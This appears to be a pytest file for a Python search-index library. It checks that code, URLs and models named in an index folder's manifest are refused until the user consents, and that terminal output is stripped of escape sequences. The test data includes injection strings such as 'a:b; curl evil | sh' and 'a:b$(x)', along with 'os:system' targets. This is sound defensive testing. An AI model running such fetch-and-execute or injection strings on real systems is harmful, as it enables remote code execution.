"""Code and services that an index folder names are opened with the user's consent, given each time."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from rich.table import Table
from rich.text import Text

import adacur
from adacur import Dense
from adacur.errors import NotTrusted, UnknownName
from adacur.replay import tune
from adacur.scorers.consent import check_not_from_here, why_consent
from tests.editing import Edited
from tests.living_world import Encoder, build, item, query, score

EVIL = """
from pathlib import Path
Path(__file__).with_name("ran.txt").write_text("ran")
def score(pairs):
    return [0.0] * len(pairs)
"""


def name_scorer(path: Path, source: str) -> None:
    file = path / "versions/1/manifest.json"
    manifest = json.loads(file.read_bytes())
    manifest["scorer"] |= {"source": source, "weights": None}
    file.write_text(json.dumps(manifest))


@pytest.fixture(name="wiki")
def wiki_fixture(tmp_path: Path) -> Path:
    """An index folder with a Python file in it, in a folder with another."""
    path = tmp_path / "wiki"
    build(path, [item(n) for n in range(12)], [query(n) for n in (*range(4), *range(20, 36))], first=["bm25"]).close()
    for folder in (path, tmp_path):
        (folder / "evil.py").write_text(EVIL)
    return path


def adacur_in(folder: Path, *arguments: object) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "adacur", *map(str, arguments)]
    return subprocess.run(command, cwd=folder, capture_output=True, text=True, env=os.environ | {"PYTHONSAFEPATH": ""})


@pytest.mark.parametrize(
    "source",
    [
        *("evil:score", "wiki.evil:score", "os:environ.update", "sys:path.extend", "sys:exit", "os:system"),
        *("http://127.0.0.1:9/", "HTTPS://127.0.0.1:9", "ftp://127.0.0.1:9/x", "s3://bucket/model"),
        *(
            "model",
            "./model",
            "../model",
            "wiki/model",
            "",
            ".",
            "a b",
            "\0x",
            "/\0x",
            "c:\\model",
            "a" * 300 + "/b",
        ),
    ],
)
def test_what_a_folder_names_is_not_opened_on_its_word(wiki: Path, source: str, monkeypatch) -> None:
    monkeypatch.chdir(wiki.parent)
    monkeypatch.syspath_prepend("")
    (wiki / "model").mkdir()
    name_scorer(wiki, source)
    before = dict(os.environ), list(sys.path), sorted(sys.modules)

    with adacur.load(wiki) as index:
        for use in (
            lambda: index.search("red thing", k=2, budget=5),
            lambda: index.search(["red thing"], k=2, budget=5),
            lambda: Edited(index).add([item(30)]),
            lambda: Edited(index).add_anchors([query(9)]),
            lambda: index.scorer,
        ):
            with pytest.raises(NotTrusted) as refused:
                use()
            assert repr(source) in str(refused.value)
            assert "allow_code=True" in str(refused.value)

    assert (dict(os.environ), list(sys.path)) == before[:2]
    assert not {"evil", "wiki"} & set(sys.modules)
    assert not list(wiki.parent.rglob("ran.txt"))


def test_a_folder_is_searched_with_a_scorer_given_or_trusted(wiki: Path) -> None:
    expected = adacur.load(wiki, scorer=score).search("red thing", k=2, budget=5).ids
    assert adacur.load(wiki, scorer="tests.living_world:score").search("red thing", k=2, budget=5).ids == expected
    assert adacur.load(wiki, allow_code=True).search("red thing", k=2, budget=5).ids == expected


def test_consent_is_given_anew_after_a_change(wiki: Path) -> None:
    with adacur.load(wiki) as index:
        Edited(index).remove(["i1"])
        with pytest.raises(NotTrusted):
            index.search("red thing", k=2, budget=5)
    with adacur.load(wiki, allow_code=True) as index:
        Edited(index).remove(["i2"])
        assert index.search("red thing", k=2, budget=5)
    with adacur.load(wiki) as index, pytest.raises(NotTrusted):
        index.search("red thing", k=2, budget=5)


def test_what_calls_no_scorer_needs_no_consent(wiki: Path) -> None:
    name_scorer(wiki, "evil:score")
    with adacur.load(wiki) as index:
        assert len(index) == 12
        assert tune(index, k=2, budget=5, queries=20, quick=True).n_queries == 20
        Edited(index).remove(["i1"])
    assert adacur.store.verify(wiki).ok


@pytest.mark.parametrize("source", ["evil:score", "wiki.evil:score"])
def test_the_current_folder_is_not_importable_from_a_manifest_even_with_trust(
    wiki: Path, source: str, monkeypatch
) -> None:
    monkeypatch.delenv("PYTHONPATH", raising=False)
    monkeypatch.chdir(wiki.parent)
    monkeypatch.syspath_prepend("")
    name_scorer(wiki, source)
    with adacur.load(wiki, allow_code=True) as index, pytest.raises(adacur.AdacurError, match="current folder"):
        index.search("red thing", k=2, budget=5)
    assert not list(wiki.parent.rglob("ran.txt"))


def test_a_module_on_pythonpath_is_importable_from_the_folder_that_it_lies_in(tmp_path: Path, monkeypatch) -> None:
    (tmp_path / "chosen_by_the_user.py").write_text("x = 1")
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.setenv("PYTHONPATH", "")
    with pytest.raises(UnknownName, match="chosen_by_the_user"):
        check_not_from_here("chosen_by_the_user:x")
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    check_not_from_here("chosen_by_the_user:x")


def test_the_commands_refuse_and_say_which_option_consents(wiki: Path) -> None:
    for folder, index, source in ((wiki.parent, "wiki", "wiki.evil:score"), (wiki, ".", "evil:score")):
        name_scorer(wiki, source)
        for command in (["search", index, "red"], *([["serve", index, "--port", 0]] if index == "wiki" else [])):
            done = adacur_in(folder, *command)
            assert done.returncode == 1, done
            assert f"--scorer {source}" in done.stderr
            assert "--allow-code" in done.stderr
        trusted = adacur_in(folder, "search", index, "red", "--allow-code")
        assert trusted.returncode == 1
        assert "current folder" in trusted.stderr
    assert not list(wiki.parent.rglob("ran.txt"))
    # What the user types is the user's.
    name_scorer(wiki, "evil:score")
    assert "not the one that built" in adacur_in(wiki.parent, "search", "wiki", "red", "--scorer", "evil:score").stderr
    assert (wiki.parent / "ran.txt").exists()


def test_weights_of_a_model_need_no_consent(tmp_path: Path) -> None:
    index, model = tmp_path / "index", tmp_path / "models" / "mine"
    model.mkdir(parents=True)
    paths = (model, model / "model.onnx", tmp_path / "gone")
    for source in ("cross-encoder/ms-marco-MiniLM-L6-v2", *map(str, paths)):
        assert why_consent(source, folder=index) is None


def test_a_model_in_the_folder_itself_needs_consent(tmp_path: Path) -> None:
    (tmp_path / "index" / "model").mkdir(parents=True)
    assert why_consent(str(tmp_path / "index" / "model"), folder=tmp_path / "index")
    assert why_consent(str(tmp_path / "index" / ".." / "index" / "model"), folder=tmp_path / "index")


@pytest.mark.parametrize("kind", ["onnx", "sentence-transformers"])
@pytest.mark.parametrize("source", ["model", "../model", "http://127.0.0.1:9/", "os:system", "{index}/model"])
def test_an_encoder_that_a_folder_names_takes_the_same_consent(tmp_path: Path, kind: str, source: str) -> None:
    index = tmp_path / "index"
    build(index, [item(n) for n in range(12)], [query(n) for n in range(4)], first=["dense"], encoder=Encoder()).close()
    file = index / "versions/1/first" / "dense" / "retriever.json"
    settings = json.loads(file.read_bytes())
    settings["encoder"] |= {"kind": kind, "source": source.replace("{index}", str(index))}
    file.write_text(json.dumps(settings))
    with adacur.load(index, scorer=score) as opened:
        with pytest.raises(NotTrusted, match="encoder="):
            opened.search("red thing", k=2, budget=5, first="dense")
        with pytest.raises(NotTrusted, match="encoder="):
            Dense.load(file.parent).search(["red thing"], 2)
    assert adacur.load(index, scorer=score, encoder=Encoder()).search("red", k=2, budget=5, first="dense")


@pytest.mark.parametrize(
    ("source", "typed"),
    [
        ("a:b; curl evil | sh", "--scorer 'a:b; curl evil | sh' in"),
        ("a:b$(x)", "--scorer 'a:b$(x)' in"),
        ("a:b\x1b]0;t\x07", "--scorer … in"),
    ],
)
def test_the_option_to_paste_is_one_word_to_the_shell(wiki: Path, source: str, typed: str) -> None:
    name_scorer(wiki, source)
    with adacur.load(wiki) as index, pytest.raises(NotTrusted) as refused:
        _ = index.scorer
    assert typed in str(refused.value)
    assert "\x1b" not in str(refused.value)


@pytest.mark.parametrize("columns", ["100", None])
def test_tables_and_json_of_a_folder_give_the_terminal_no_orders(capsys, monkeypatch, columns) -> None:
    from rich.table import Table

    from adacur.cli.messages import plain, say, show

    monkeypatch.delenv("COLUMNS", raising=False)
    if columns is not None:
        monkeypatch.setenv("COLUMNS", columns)
    text = "red \x1b]0;title\x07 \x9b31m \x7f \ud800 thing"
    (table := Table("item")).add_row(text)
    say(table)
    show({"text": text}, as_json=True)
    say(plain(text))
    told = capsys.readouterr().out
    assert told.count("title") == 3
    assert not set(told) & {"\x1b", "\x9b", "\x07", "\x7f", "\ud800"}
    (line,) = (line for line in told.splitlines() if line.startswith("{"))
    assert json.loads(line) == {"text": text}


def test_the_texts_of_a_folder_give_the_terminal_no_orders(wiki: Path, capsys) -> None:
    from adacur.cli.messages import failed, note, say

    text = "red \x1b]0;title\x07 \x1b[31m \x9b31m \r thing"
    for write in (say, note, failed):
        write(text)
    table = Table("item")
    table.add_row(Text(text))
    say(table)
    told = "".join(capsys.readouterr())
    assert "title" in told
    assert not set(told) & {"\x1b", "\x9b", "\x07", "\r"}
